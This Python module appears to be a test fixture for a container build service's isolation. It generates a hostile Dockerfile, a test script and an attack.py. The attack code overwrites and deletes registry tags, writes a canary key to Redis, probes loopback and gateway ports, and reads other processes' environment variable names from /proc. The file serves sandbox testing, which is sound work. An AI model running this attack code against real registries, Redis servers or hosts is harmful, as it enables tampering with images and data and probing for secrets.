"""A hostile image definition: its Dockerfile's RUN step and its test script each try to push a
manifest over another image's tag, delete a tag, write to Redis, reach the host's loopback
services and read the worker's secrets. Each attempt prints one line, `<where> <what> <target>
blocked: <why>` or `<where> <what> <target> SUCCEEDED`, so a test can tell an attack that was
stopped from one that never ran. The attacks always exit 0: the run's own outcome is whatever
its tests say."""

from __future__ import annotations

import base64
import json
from dataclasses import asdict, dataclass
from pathlib import Path

DOCKERFILE = """\
ARG BASE
FROM ${BASE}
ARG VERSION
COPY attack.py /attack.py
RUN python3 /attack.py build > /attack-build.log 2>&1; cat /attack-build.log
"""

# The test protocol's `step` (images/awscli/test.sh); one step per kind of attack and place keeps
# each step's output inside the recorded tail.
TEST_SCRIPT = """\
#!/bin/sh
set -u
step() {
  name=$1
  shift
  echo "::freshen-step-begin $name"
  "$@" 2>&1
  rc=$?
  echo
  echo "::freshen-step-end $name $rc"
  return "$rc"
}
step build-push grep '^build push ' /attack-build.log || exit 1
step test-push python3 /attack.py test push || exit 1
step build-delete grep '^build delete ' /attack-build.log || exit 1
step test-delete python3 /attack.py test delete || exit 1
step build-redis grep '^build redis ' /attack-build.log || exit 1
step test-redis python3 /attack.py test redis || exit 1
step build-connect grep '^build connect ' /attack-build.log || exit 1
step test-connect python3 /attack.py test connect || exit 1
step build-environment grep '^build environment ' /attack-build.log || exit 1
step test-environment python3 /attack.py test environment || exit 1
"""

ATTACK = r'''
import base64, concurrent.futures, json, os, socket, sys, urllib.error, urllib.request

TARGETS = json.loads(base64.b64decode("@TARGETS@"))
where = sys.argv[1]
only = sys.argv[2] if len(sys.argv) > 2 else None
MANIFEST_TYPES = ", ".join([
    "application/vnd.oci.image.manifest.v1+json",
    "application/vnd.docker.distribution.manifest.v2+json",
    "application/vnd.oci.image.index.v1+json",
    "application/vnd.docker.distribution.manifest.list.v2+json",
])


def say(what, target, error):
    print(where, what, target, "SUCCEEDED" if error is None else "blocked: " + error, flush=True)


def gateway():
    try:
        with open("/proc/net/route") as routes:
            for line in routes.readlines()[1:]:
                fields = line.split()
                if fields[1] == "00000000":
                    return socket.inet_ntoa(int(fields[2], 16).to_bytes(4, "little"))
    except OSError:
        pass
    return None


HOSTS = [h for h in dict.fromkeys(["127.0.0.1", gateway(), *TARGETS["hosts"]]) if h]


def http(method, url, body=None, headers=None):
    request = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    with urllib.request.urlopen(request, timeout=3) as reply:
        return reply.status, reply.headers, reply.read()


def why(exc):
    if isinstance(exc, urllib.error.HTTPError):
        return "HTTP %d" % exc.code
    reason = getattr(exc, "reason", exc)
    return type(reason).__name__ + ": " + str(reason)[:60]


def push(host, port):
    """Move the victim's `latest` back to its old manifest (a real, pushable manifest)."""
    base = "http://%s:%d/v2/%s/manifests/" % (host, port, TARGETS["victim"])
    old = base + TARGETS["old"]
    _, headers, body = http("GET", old, headers={"Accept": MANIFEST_TYPES})
    http("PUT", base + "latest", body, {"Content-Type": headers.get("Content-Type")})


def delete(host, port):
    victim, digest = TARGETS["victim"], TARGETS["latest"]
    http("DELETE", "http://%s:%d/v2/%s/manifests/%s" % (host, port, victim, digest))


def redis_set(host, port):
    """Write a canary key (RESP, no client library): +OK means Redis took it."""
    key = TARGETS["canary"]
    command = "*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$6\r\npwned!\r\n" % (len(key), key)
    with socket.create_connection((host, port), timeout=3) as conn:
        conn.sendall(command.encode())
        answer = conn.recv(64).decode(errors="replace").strip()
    if answer != "+OK":
        raise RuntimeError("answered " + answer)


def connect(host, port):
    socket.create_connection((host, port), timeout=3).close()


def attempt(job):
    """None if the attack worked, else why it did not."""
    attack, host, port = job
    try:
        attack(host, port)
        return None
    except Exception as exc:
        return why(exc)


def run(kind, attack, ports):
    """Every host and port at once (a dropped packet costs its timeout once, not per target)."""
    jobs = [(attack, host, port) for host in HOSTS for port in ports]
    with concurrent.futures.ThreadPoolExecutor(len(jobs)) as pool:
        for (_, host, port), error in zip(jobs, pool.map(attempt, jobs)):
            say(kind, "%s:%d" % (host, port), error)


def environment():
    """The names in this process's environment and its neighbours' (values stay unprinted)."""
    names = set(os.environ)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/environ" % pid, "rb") as environ:
                    entries = environ.read().split(b"\0")
                names.update(e.split(b"=")[0].decode() for e in entries if e)
            except OSError:
                pass
    print(where, "environment", " ".join(sorted(names)), flush=True)


ATTACKS = {
    "push": (push, TARGETS["registry_ports"]),
    "delete": (delete, TARGETS["registry_ports"]),
    "redis": (redis_set, [TARGETS["redis_port"]]),
    "connect": (connect, TARGETS["service_ports"]),
}
for kind, (attack, ports) in ATTACKS.items():
    if only in (None, kind):
        run(kind, attack, ports)
if only in (None, "environment"):
    environment()
'''


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: the victim's repository and its two tags' digests, the hosts
    and ports of the services freshen runs, and the Redis key a successful write leaves."""

    victim: str
    latest: str
    old: str
    hosts: tuple[str, ...]
    registry_ports: tuple[int, ...]
    redis_port: int
    service_ports: tuple[int, ...]
    canary: str


def write_definition(folder: Path) -> None:
    """The definition's Dockerfile and test script (image.toml is the caller's)."""
    (folder / "Dockerfile").write_text(DOCKERFILE)
    (folder / "test.sh").write_text(TEST_SCRIPT)


def write_attack(folder: Path, targets: Targets) -> None:
    """attack.py, aimed at `targets`; the build copies it into the image."""
    payload = base64.b64encode(json.dumps(asdict(targets)).encode()).decode()
    (folder / "attack.py").write_text(ATTACK.replace("@TARGETS@", payload))
